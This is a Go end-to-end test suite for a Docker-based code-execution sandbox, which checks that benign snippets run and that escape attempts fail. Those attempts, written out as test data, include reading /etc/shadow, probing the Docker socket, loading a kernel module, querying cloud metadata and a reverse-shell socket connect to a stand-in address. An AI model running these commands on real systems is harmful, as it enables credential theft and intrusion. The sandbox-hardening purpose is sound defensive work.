package app

import (
	"context"
	"os/exec"
	"strings"
	"testing"
	"time"

	"polyglot-sandbox/internal/config"
	"polyglot-sandbox/internal/executor"
)

// requireDocker skips the test if Docker is not installed or not running.
func requireDocker(t *testing.T) {
	t.Helper()
	if testing.Short() {
		t.Skip("skipping e2e test in short mode")
	}
	if _, err := exec.LookPath("docker"); err != nil {
		t.Skip("Docker not installed, skipping")
	}
	if err := exec.Command("docker", "info").Run(); err != nil {
		t.Skip("Docker daemon not running, skipping")
	}
}

func dockerApp(t *testing.T) *App {
	t.Helper()
	requireDocker(t)

	cfg := config.DefaultConfig()
	cfg.Sandbox.Backend = "docker"
	cfg.Sandbox.TempDir = t.TempDir()
	cfg.Sandbox.MaxContainers = 4

	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	a, err := New(ctx, cfg, Options{SkipDatabase: true, Provision: true})
	if err != nil {
		t.Fatalf("starting sandbox: %v", err)
	}
	t.Cleanup(func() {
		if err := a.Close(context.Background()); err != nil {
			t.Errorf("close: %v", err)
		}
	})
	return a
}

func TestE2E(t *testing.T) {
	a := dockerApp(t)

	tests := []struct {
		name       string
		language   string
		code       string
		wantStatus executor.Status // empty means any failure
		wantOutput string
	}{
		// Benign code
		{"python_hello_world", "python", `print("Hello from sandbox!")`, executor.StatusCompleted, "Hello from sandbox!"},
		{"python_math", "python", `print(sum(range(101)))`, executor.StatusCompleted, "5050"},
		{"node_hello_world", "node", `console.log("Hello from Node!")`, executor.StatusCompleted, "Hello from Node!"},
		{"bash_echo", "bash", `echo "Hello from Bash!"`, executor.StatusCompleted, "Hello from Bash!"},
		{"sql_select", "sql", `SELECT 6 * 7;`, executor.StatusCompleted, "42"},
		{"python_write_tmp", "python", "with open('/tmp/t.txt', 'w') as f:\n    f.write('tmpfs works')\nprint(open('/tmp/t.txt').read())", executor.StatusCompleted, "tmpfs works"},

		// Escape attempts: rejected up front or contained at run time
		{"read_shadow", "bash", "cat /etc/shadow", "", ""},
		{"mount_filesystem", "bash", "mount /dev/sda1 /mnt", "", ""},
		{"write_root_fs", "bash", "echo pwned > /pwned.txt", "", ""},
		{"docker_socket", "bash", "ls -la /var/run/docker.sock", "", ""},
		{"kernel_module", "bash", "insmod /tmp/evil.ko", "", ""},
		{"change_hostname", "bash", "hostname evil", "", ""},
		{"network_request", "bash", "wget -q -O- http://example.com", "", ""},
		{"memory_bomb", "python", "x = []\nwhile True:\n    x.append('A' * 1024 * 1024)", "", ""},
		{"cloud_metadata", "python", "import urllib.request\nurllib.request.urlopen('http://169.254.169.254/', timeout=2)", "", ""},
		{"reverse_shell", "python", "import socket\ns = socket.socket()\ns.connect(('203.0.113.1', 4444))", "", ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
			defer cancel()

			res := a.Orchestrator.Execute(ctx, executor.Request{Code: tt.code, Language: tt.language, UserID: "e2e"})
			if tt.wantStatus == "" {
				if res.Success {
					t.Fatalf("expected failure, got success with output %q", res.Output)
				}
				t.Logf("contained: status=%s kind=%s error=%q", res.Status, res.ErrorKind, res.Error)
				return
			}
			if res.Status != tt.wantStatus {
				t.Fatalf("status = %s (%s: %s), want %s; stderr=%q", res.Status, res.ErrorKind, res.Error, tt.wantStatus, res.Stderr)
			}
			if tt.wantOutput != "" && !strings.Contains(res.Output, tt.wantOutput) {
				t.Errorf("output = %q, want substring %q", res.Output, tt.wantOutput)
			}
		})
	}

	if n := a.Manager.InUse(); n != 0 {
		t.Errorf("%d slots still held after all executions", n)
	}
}

func TestE2ETimeout(t *testing.T) {
	a := dockerApp(t)

	start := time.Now()
	res := a.Orchestrator.Execute(context.Background(), executor.Request{
		Code:     "import time\nwhile True:\n    time.sleep(0.1)",
		Language: "python",
		UserID:   "e2e",
		Timeout:  2 * time.Second,
	})
	if res.Status != executor.StatusTimedOut {
		t.Fatalf("status = %s (%s), want TIMED_OUT", res.Status, res.Error)
	}
	if res.ExitCode != 124 {
		t.Errorf("exit code = %d, want 124", res.ExitCode)
	}
	if took := time.Since(start); took > 2*time.Second+a.Config.Sandbox.TimeoutGrace+15*time.Second {
		t.Errorf("timeout took %s", took)
	}
}
